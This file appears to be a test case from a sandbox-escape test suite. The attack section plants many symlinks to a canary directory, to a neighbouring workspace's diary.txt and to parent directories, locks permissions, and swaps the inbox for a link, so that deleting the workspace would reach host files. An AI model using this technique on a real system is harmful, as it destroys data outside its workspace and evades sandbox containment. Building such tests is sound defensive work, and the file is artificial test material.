"""Leaves links to host files and directories all over the workspace for its removal to follow.

Layer: files
Escape: removing the workspace touches a host file
Control: a symlink can be made
Expect: none
"""

# control
import os

os.symlink("nowhere", "link")
os.readlink("link") == "nowhere"

# attack
for i in range(50):
    os.makedirs(f"d{i}", exist_ok=True)
    os.symlink(places["canary_dir"], f"d{i}/down")
    os.symlink(places["neighbour_workspace"] + "/diary.txt", f"d{i}/file")
    os.symlink("..", f"d{i}/up")
    os.chmod(f"d{i}", 0)
os.rename("inbox", "aside") if os.path.isdir("inbox") else None
os.symlink(places["canary_dir"], "inbox")
os.chmod(".", 0o111)
"left"
